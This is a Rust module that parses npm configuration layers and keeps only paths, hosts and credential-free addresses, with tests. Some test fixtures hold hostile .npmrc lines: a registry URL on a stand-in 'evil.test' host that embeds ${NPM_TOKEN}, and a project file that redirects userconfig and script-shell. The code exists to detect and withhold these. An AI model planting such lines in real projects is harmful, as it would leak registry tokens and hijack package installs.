//! The few settings of npm that say where npm itself writes and whom it asks.
//!
//! npm's own answer (`npm config get`) costs a third of a second, so the three files
//! and the environment are read here, in npm's order of precedence. Only paths, hosts
//! and addresses are kept: of a line that holds a credential the host, of an address
//! that holds one everything but it. The project's file is content of the repository,
//! so each value remembers which source it is from.

use std::collections::HashMap;
use std::ffi::{OsStr, OsString};
use std::path::{Path, PathBuf};

use url::Url;

use crate::policy::is_credential;

/// Larger files are not read; npm's own are a few lines.
const LARGEST: u64 = 1 << 20;

/// Settings whose values are paths.
const PATHS: &[&str] = &["cache", "logs_dir", "prefix", "globalconfig", "userconfig", "script_shell"];

/// What the key of a credential ends in, after the address it is for.
const CREDENTIALS: &[&str] =
    &["_authtoken", "_auth", "username", "_password", "email", "certfile", "keyfile"];

/// Where a setting was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// A variable `npm_config_…`.
    Environment,
    /// The project's `.npmrc`, or a file that only the project's `.npmrc` names.
    Project,
    /// The user's `.npmrc`.
    User,
    /// The machine's `npmrc`.
    Global,
}

/// An address in a file of the project that a variable with a credential would go into.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Withheld {
    /// The setting.
    pub setting: String,
    /// The variable.
    pub variable: String,
}

/// One source of settings.
#[derive(Debug)]
struct Layer {
    origin: Origin,
    values: HashMap<String, String>,
    credential_hosts: Vec<String>,
    withheld: Vec<Withheld>,
}

/// Settings from the environment and `.npmrc` files; earlier sources win.
#[derive(Debug, Default)]
pub struct NpmConfig {
    layers: Vec<Layer>,
    proxies: Vec<String>,
}

/// The environment as npm reads it: a name's spelling in lower case with `_` for `-`.
pub fn normal_name(name: &OsStr) -> Option<String> {
    let name = name.to_str()?.to_ascii_lowercase();
    name.strip_prefix("npm_config_").map(|n| n.replace('-', "_"))
}

impl NpmConfig {
    /// Reads the environment, then the project's, the user's and the global file.
    pub fn load(project: &Path, home: Option<&Path>, prefix: &Path) -> NpmConfig {
        Self::from_sources(std::env::vars_os().collect(), project, home, prefix)
    }

    /// The same for a given environment.
    pub fn from_sources(
        environment: Vec<(OsString, OsString)>,
        project: &Path,
        home: Option<&Path>,
        prefix: &Path,
    ) -> NpmConfig {
        let variables: HashMap<String, String> = environment
            .into_iter()
            .filter_map(|(name, value)| Some((name.into_string().ok()?, value.into_string().ok()?)))
            .collect();
        let reader = Reader { variables: &variables, home };
        let mut config = NpmConfig { layers: Vec::new(), proxies: Vec::new() };
        let mut layer = Layer::new(Origin::Environment);
        for (name, value) in &variables {
            if value.is_empty() {
                continue;
            }
            if let Some(setting) = normal_name(OsStr::new(name)) {
                // npm leaves the address of a credential as it is spelt.
                let raw = name.get("npm_config_".len()..).unwrap_or_default();
                let key = if raw.starts_with("//") { raw } else { &setting };
                reader.add(&mut layer, key, value);
            } else if is_proxy_variable(name) {
                config.proxies.extend(address(value).map(|url| url.to_string()));
            }
        }
        config.layers.push(layer);
        let projects = project.join(".npmrc");
        let users_default = home.map(|h| h.join(".npmrc"));
        // In the home directory the project's file is the user's; npm reads it once, as such.
        let users_first = config.path("userconfig").or_else(|| users_default.clone());
        config.layers.push(if users_first.is_some_and(|users| same_file(&users, &projects)) {
            Layer::new(Origin::Project)
        } else {
            reader.read(&projects, Origin::Project)
        });
        // The project's file may say where the user's is; it does not make that file the user's.
        let (user, origin) = config.file("userconfig", users_default, Origin::User);
        config.layers.push(user.map_or_else(|| Layer::new(origin), |path| reader.read(&path, origin)));
        let (global, origin) = config.file("globalconfig", Some(prefix.join("etc/npmrc")), Origin::Global);
        config.layers.push(global.map_or_else(|| Layer::new(origin), |path| reader.read(&path, origin)));
        config
    }

    fn file(&self, setting: &str, default: Option<PathBuf>, own: Origin) -> (Option<PathBuf>, Origin) {
        let named = self.layers.iter().find(|layer| layer.values.contains_key(setting));
        match (self.path(setting), named.map(|layer| layer.origin)) {
            (Some(path), Some(Origin::Project)) => {
                let is_default = default.as_ref().is_some_and(|default| same_file(default, &path));
                (Some(path), if is_default { own } else { Origin::Project })
            }
            (Some(path), _) => (Some(path), own),
            (None, _) => (default, own),
        }
    }

    /// The value of a setting (`cache`, `logs_dir`, `prefix`, …).
    pub fn get(&self, name: &str) -> Option<&str> {
        self.layers.iter().find_map(|layer| layer.values.get(name)).map(String::as_str)
    }

    /// The shell that the user's or the machine's file names, if it is the system's. The
    /// environment and the project's file do not count: both can come from elsewhere.
    pub fn users_shell(&self) -> Option<PathBuf> {
        let files = self.layers.iter().filter(|l| matches!(l.origin, Origin::User | Origin::Global));
        let shell = files.into_iter().find_map(|layer| layer.values.get("script_shell"))?;
        let shell = Path::new(shell).canonicalize().ok()?;
        (shell.is_file() && ["/usr", "/bin", "/opt", "/nix"].iter().any(|dir| shell.starts_with(dir)))
            .then_some(shell)
    }

    /// The same for an absolute path.
    pub fn path(&self, name: &str) -> Option<PathBuf> {
        self.get(name).map(PathBuf::from).filter(|p| p.is_absolute())
    }

    /// Every registry that is named anywhere, for all packages or for a scope.
    pub fn registries(&self) -> Vec<String> {
        self.registries_from().map(|(_, url)| url.to_owned()).collect()
    }

    /// The same, with where each is named.
    pub fn registries_from(&self) -> impl Iterator<Item = (Origin, &str)> {
        self.settings().filter(|(_, name, _)| is_registry(name)).map(|(origin, _, value)| (origin, value))
    }

    /// Every proxy that is named anywhere, also in `HTTPS_PROXY` and its like.
    pub fn proxies_from(&self) -> impl Iterator<Item = (Origin, &str)> {
        let settings =
            self.settings().filter(|(_, name, _)| is_proxy(name)).map(|(origin, _, value)| (origin, value));
        settings.chain(self.proxies.iter().map(|url| (Origin::Environment, url.as_str())))
    }

    /// `host` or `host:port` of every address that there is a credential for.
    pub fn credential_hosts(&self) -> impl Iterator<Item = (Origin, &str)> {
        self.layers.iter().flat_map(|l| l.credential_hosts.iter().map(|host| (l.origin, host.as_str())))
    }

    /// Addresses of the project's file that do not count, because a secret would be in them.
    pub fn withheld(&self) -> impl Iterator<Item = &Withheld> {
        self.layers.iter().flat_map(|layer| &layer.withheld)
    }

    fn settings(&self) -> impl Iterator<Item = (Origin, &str, &str)> {
        self.layers.iter().flat_map(|layer| {
            let mut values: Vec<_> =
                layer.values.iter().map(|(k, v)| (layer.origin, k.as_str(), v.as_str())).collect();
            values.sort_unstable_by_key(|(_, name, _)| *name);
            values
        })
    }
}

/// `registry` or `@scope:registry`.
pub fn is_registry(name: &str) -> bool {
    name == "registry" || (name.starts_with('@') && name.ends_with(":registry"))
}

/// `proxy`, `https-proxy` and the old `http-proxy`, in any spelling.
pub fn is_proxy(name: &str) -> bool {
    ["proxy", "https_proxy", "http_proxy", "https-proxy", "http-proxy"].contains(&name)
}

/// Variables that npm's agent and git's transport take a proxy from.
fn is_proxy_variable(name: &str) -> bool {
    ["https_proxy", "http_proxy", "all_proxy", "proxy"].iter().any(|known| name.eq_ignore_ascii_case(known))
}

/// An address as npm reads it, without user, password, query and fragment.
pub(super) fn address(text: &str) -> Option<Url> {
    let text = text.trim();
    let mut url =
        if text.contains("://") { Url::parse(text) } else { Url::parse(&format!("http://{text}")) }.ok()?;
    url.host()?;
    url.set_username("").ok()?;
    url.set_password(None).ok()?;
    url.set_query(None);
    url.set_fragment(None);
    Some(url)
}

fn same_file(one: &Path, other: &Path) -> bool {
    one == other || one.canonicalize().is_ok_and(|one| other.canonicalize().is_ok_and(|other| one == other))
}

impl Layer {
    fn new(origin: Origin) -> Layer {
        Layer { origin, values: HashMap::new(), credential_hosts: Vec::new(), withheld: Vec::new() }
    }
}

/// What values are completed with.
struct Reader<'a> {
    variables: &'a HashMap<String, String>,
    home: Option<&'a Path>,
}

impl Reader<'_> {
    fn read(&self, path: &Path, origin: Origin) -> Layer {
        let readable = path.metadata().is_ok_and(|m| m.is_file() && m.len() <= LARGEST);
        let text = readable.then(|| std::fs::read(path).ok()).flatten().unwrap_or_default();
        self.parse(&String::from_utf8_lossy(&text), origin)
    }

    /// `key = value` lines of npm's ini dialect, up to the first section, which npm does
    /// not take settings from.
    fn parse(&self, text: &str, origin: Origin) -> Layer {
        let mut layer = Layer::new(origin);
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        for line in text.split(['\r', '\n']).map(str::trim) {
            if line.starts_with([';', '#']) {
                continue;
            }
            if line.starts_with('[') && line.ends_with(']') {
                break;
            }
            let Some((key, value)) = line.split_once('=') else { continue };
            self.add(&mut layer, &unquote(key), &unquote(value));
        }
        layer
    }

    fn add(&self, layer: &mut Layer, key: &str, value: &str) {
        let key = self.expand(key).0;
        if let Some(rest) = key.strip_prefix("//") {
            let host = rest.split('/').next().unwrap_or_default();
            let is_credential = rest
                .rsplit_once(':')
                .is_some_and(|(_, name)| CREDENTIALS.iter().any(|known| name.eq_ignore_ascii_case(known)));
            if is_credential && !host.contains('@') {
                layer.credential_hosts.push(host.to_owned());
            }
            return;
        }
        let key = key.replace('-', "_");
        let is_address = is_registry(&key) || is_proxy(&key);
        if !is_address && !PATHS.contains(&key.as_str()) {
            return;
        }
        let (mut value, variables) = self.expand(value.trim());
        if is_address {
            let secret = variables.into_iter().find(|name| is_credential(name));
            if let (Origin::Project, Some(variable)) = (layer.origin, &secret) {
                layer.withheld.push(Withheld { setting: key, variable: variable.clone() });
                return;
            }
            if ["null", "false", "true"].contains(&value.as_str()) {
                return;
            }
            let Some(mut url) = address(&value) else { return };
            if secret.is_some() {
                url.set_path("/");
            }
            value = url.to_string();
        } else if let (Some(rest), Some(home)) = (value.strip_prefix("~/"), self.home) {
            value = home.join(rest).to_string_lossy().into_owned();
        }
        layer.values.insert(key, value);
    }

    /// `${NAME}` and `${NAME?}` replaced as npm does, and the names that were: one that is
    /// not set stays as it is, one with `?` becomes nothing, a backslash keeps it as text.
    fn expand(&self, value: &str) -> (String, Vec<String>) {
        let mut out = String::new();
        let mut used = Vec::new();
        let mut rest = value;
        while let Some((before, after)) = rest.split_once("${") {
            out.push_str(before);
            let Some((inner, tail)) = after.split_once('}') else {
                out.push_str("${");
                rest = after;
                continue;
            };
            let name = inner.strip_suffix('?').unwrap_or(inner);
            if name.is_empty() || name.contains(['$', '{', '?']) {
                out.push_str("${");
                rest = after;
                continue;
            }
            let backslashes = before.len() - before.trim_end_matches('\\').len();
            out.truncate(out.len() - backslashes.div_ceil(2));
            let set = self.variables.get(name);
            match set {
                Some(set) if backslashes % 2 == 0 => {
                    out.push_str(set);
                    used.push(name.to_owned());
                }
                None if backslashes % 2 == 0 && inner.ends_with('?') => {}
                _ => {
                    out.push_str("${");
                    out.push_str(inner);
                    out.push('}');
                }
            }
            rest = tail;
        }
        (out + rest, used)
    }
}

/// A key or value of the ini dialect: quoted as JSON, or up to a bare `;` or `#`.
fn unquote(text: &str) -> String {
    let text = text.trim();
    let is_quoted = |quote: char| text.len() > 1 && text.starts_with(quote) && text.ends_with(quote);
    if is_quoted('"') {
        return serde_json::from_str(text).unwrap_or_else(|_| text.trim_matches('"').to_owned());
    }
    if is_quoted('\'') {
        let inner = &text[1..text.len() - 1];
        return serde_json::from_str(inner).unwrap_or_else(|_| inner.to_owned());
    }
    let mut out = String::new();
    let mut characters = text.chars();
    while let Some(c) = characters.next() {
        match c {
            ';' | '#' => break,
            '\\' => match characters.next() {
                Some(c @ ('\\' | ';' | '#')) => out.push(c),
                Some(c) => out.extend(['\\', c]),
                None => out.push('\\'),
            },
            c => out.push(c),
        }
    }
    out.trim().to_owned()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn parse(text: &str, origin: Origin) -> Layer {
        let variables = [("NPM_TOKEN", "s3cret"), ("NAME", "r.test"), ("CORP_HOST", "corp.test")];
        let variables = variables.map(|(k, v)| (k.to_owned(), v.to_owned())).into();
        Reader { variables: &variables, home: Some(Path::new("/home/u")) }.parse(text, origin)
    }

    #[test]
    fn paths_and_hosts_are_taken_and_secrets_are_not_kept() {
        let text = "; comment\ncache = \"/var/cache/npm\"\n//registry:8443/a/:_authToken=s3cret\n\
                    logs-dir=/x\n@s:registry=https://me:s3cret@r.test/\n_authToken=s3cret\n\
                    registry=https://r.test/${NPM_TOKEN}/\nprefix=~/p ; why\nproxy=http://u:s3cret@p.test:3128\n";
        let layer = parse(text, Origin::User);
        let value = |name: &str| layer.values.get(name).map(String::as_str);
        assert_eq!(value("cache"), Some("/var/cache/npm"));
        assert_eq!(value("logs_dir"), Some("/x"));
        assert_eq!(value("@s:registry"), Some("https://r.test/"));
        assert_eq!(value("registry"), Some("https://r.test/"));
        assert_eq!(value("prefix"), Some("/home/u/p"));
        assert_eq!(value("proxy"), Some("http://p.test:3128/"));
        assert_eq!(layer.values.len(), 6);
        assert_eq!(layer.credential_hosts, ["registry:8443"]);
        assert!(!format!("{layer:?}").contains("s3cret"));
    }

    #[test]
    fn a_projects_address_with_a_credential_in_it_is_withheld() {
        let text = "registry=http://evil.test/${NPM_TOKEN}/\n@a:registry=https://${NAME}/\n";
        let layer = parse(text, Origin::Project);
        assert_eq!(layer.withheld, [Withheld { setting: "registry".into(), variable: "NPM_TOKEN".into() }]);
        assert_eq!(layer.values.get("@a:registry").map(String::as_str), Some("https://r.test/"));
        assert!(!format!("{layer:?}").contains("s3cret"));
    }

    #[test]
    fn the_ini_dialect_is_npms() {
        let text = "cache=/a\rprefix='/b'\n[section]\nregistry=https://r.test/\n";
        let layer = parse(text, Origin::User);
        assert_eq!(layer.values.get("cache").map(String::as_str), Some("/a"));
        assert_eq!(layer.values.get("prefix").map(String::as_str), Some("/b"));
        assert_eq!(layer.values.get("registry"), None);
        for (text, expected) in
            [("a\\;b;c", "a;b"), ("\"a;b\"", "a;b"), ("a#b", "a"), ("\\", "\\"), ("\"", "\""), ("''", "")]
        {
            assert_eq!(unquote(text), expected, "{text}");
        }
    }

    #[test]
    fn variables_are_replaced_as_npm_does() {
        let variables = HashMap::from([("A".to_owned(), "1".to_owned())]);
        let reader = Reader { variables: &variables, home: None };
        for (text, expected) in [
            ("x${A}y", "x1y"),
            ("${B}", "${B}"),
            ("${B?}-", "-"),
            ("\\${A}", "${A}"),
            ("\\\\${A}", "\\1"),
            ("${", "${"),
            ("${${A}", "${1"),
            ("${}", "${}"),
        ] {
            assert_eq!(reader.expand(text).0, expected, "{text}");
        }
    }

    #[test]
    fn a_file_that_the_project_names_is_not_the_users() {
        let dir = tempfile::tempdir().unwrap();
        let (project, home) = (dir.path().join("p"), dir.path().join("h"));
        std::fs::create_dir_all(&project).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        let evil = project.join("evil");
        std::fs::write(project.join(".npmrc"), format!("userconfig={}\n", evil.display())).unwrap();
        std::fs::write(&evil, "registry=https://evil.test/\nscript-shell=/bin/sh\n").unwrap();
        let config = NpmConfig::from_sources(Vec::new(), &project, Some(&home), dir.path());
        assert_eq!(config.registries_from().collect::<Vec<_>>(), [(Origin::Project, "https://evil.test/")]);
        assert_eq!(config.users_shell(), None);

        std::fs::write(home.join(".npmrc"), "registry=https://mine.test/\n").unwrap();
        let config = NpmConfig::from_sources(Vec::new(), &home, Some(&home), dir.path());
        assert_eq!(config.registries_from().collect::<Vec<_>>(), [(Origin::User, "https://mine.test/")]);
    }

    #[test]
    fn spellings_of_a_name_are_one_name() {
        for name in ["npm_config_script_shell", "NPM_CONFIG_SCRIPT_SHELL", "npm_config_script-shell"] {
            assert_eq!(normal_name(OsStr::new(name)).as_deref(), Some("script_shell"));
        }
        assert_eq!(normal_name(OsStr::new("PATH")), None);
    }
}
